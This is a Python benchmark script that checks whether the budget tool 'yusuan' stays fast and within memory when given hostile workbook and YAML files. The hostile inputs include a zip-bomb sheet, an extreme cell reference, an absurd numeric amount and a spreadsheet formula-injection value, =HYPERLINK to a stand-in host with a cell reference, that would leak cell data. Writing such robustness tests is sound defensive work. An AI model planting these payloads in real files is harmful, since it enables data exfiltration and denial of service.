"""Time and peak memory of `yusuan` on hostile files (issue 13): each is generated here, run in a
subprocess, and must end with exit 0/1/2 in seconds and well under 2 GB.

    python benchmarks/bench_hostile.py
"""
from __future__ import annotations

import os
import re
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
SMALL = (ROOT / "tests" / "data" / "small-budget.yaml").read_text(encoding="utf-8")


def _workbook(folder: Path) -> tuple[Path, str]:
    sys.path.insert(0, str(ROOT))
    from openpyxl import load_workbook

    from yusuan.read.budget_yaml import read_budget
    from yusuan.workbook.layout import LINES
    from yusuan.workbook.write import write_workbook

    (folder / "b.yaml").write_text(SMALL, encoding="utf-8")
    path = folder / "budget.xlsx"
    path.write_bytes(write_workbook(read_budget(folder / "b.yaml")))
    return path, f"xl/worksheets/sheet{load_workbook(path, read_only=True).sheetnames.index(LINES.name) + 1}.xml"


def _rezip(source: Path, target: Path, name: str, write) -> Path:
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename == name:
                with new.open(name, "w") as handle:
                    write(old.read(info), handle)
            else:
                new.writestr(info, old.read(info))
    return target


def cases(folder: Path):
    book, sheet = _workbook(folder)

    def far(data, handle):  # a value at A1048576 and no <dimension>
        data = re.sub(rb"<dimension[^>]*/>", b"", data)
        handle.write(data.replace(b"</sheetData>", b'<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>'))

    def bomb(data, handle):  # 150 MB of blanks in a sheet, 150 KB packed
        head, tail = data.split(b"</worksheet>")
        handle.write(head)
        for _ in range(150):
            handle.write(b" " * 1_000_000)
        handle.write(b"</worksheet>" + tail)

    yield "workbook, value at A1048576, no dimension", ["build", _rezip(book, folder / "far.xlsx", sheet, far)]
    yield "workbook, 150 MB sheet XML in 150 KB", ["build", _rezip(book, folder / "bomb.xlsx", sheet, bomb)]
    rows = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>x</t></is></c></row>' for r in range(10, 100_010))
    many = _rezip(book, folder / "many.xlsx", sheet, lambda data, handle: handle.write(
        re.sub(rb"<dimension[^>]*/>", b"", data).replace(b"</sheetData>", rows.encode() + b"</sheetData>")))
    yield "workbook, 100,000 broken rows", ["build", many]
    amount = folder / "amount.yaml"
    amount.write_text(SMALL.replace("amount: 1000000.00}", 'amount: "1e100000000"}'), encoding="utf-8")
    yield "budget, amount 1e100000000", ["build", amount]
    names = folder / "names.yaml"
    names.write_text(SMALL.replace("{name: 测试局,", "{name: '=HYPERLINK(\"http://x/?\"&A1)',"), encoding="utf-8")
    yield "budget, unit name =HYPERLINK(…), xlsx", ["build", names, "-f", "xlsx,datapackage"]
    big = folder / "big.yaml"
    extra = "".join(f"  - {{func: 2040201, econ: 30101, kind: 人员经费, amount: {i}.01}}\n" for i in range(10_000))
    big.write_text(SMALL.replace("lines:\n", "lines:\n" + extra), encoding="utf-8")
    yield "budget, 10,000 lines, xlsx", ["build", big, "-f", "xlsx"]


def main() -> None:
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        print(f"{'case':45} {'exit':>4} {'seconds':>8} {'peak MB':>8}")
        for name, args in cases(folder):
            start = time.monotonic()
            child = subprocess.Popen([sys.executable, "-m", "yusuan.cli", *map(str, args), "-o", str(folder / "out")],
                                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=ROOT,
                                     env={**os.environ, "PYTHONPATH": str(ROOT)})
            _, status, usage = os.wait4(child.pid, 0)
            code = os.waitstatus_to_exitcode(status)
            print(f"{name:45} {code:>4} {time.monotonic() - start:>8.2f} {usage.ru_maxrss / 1024:>8.0f}")


if __name__ == "__main__":
    main()
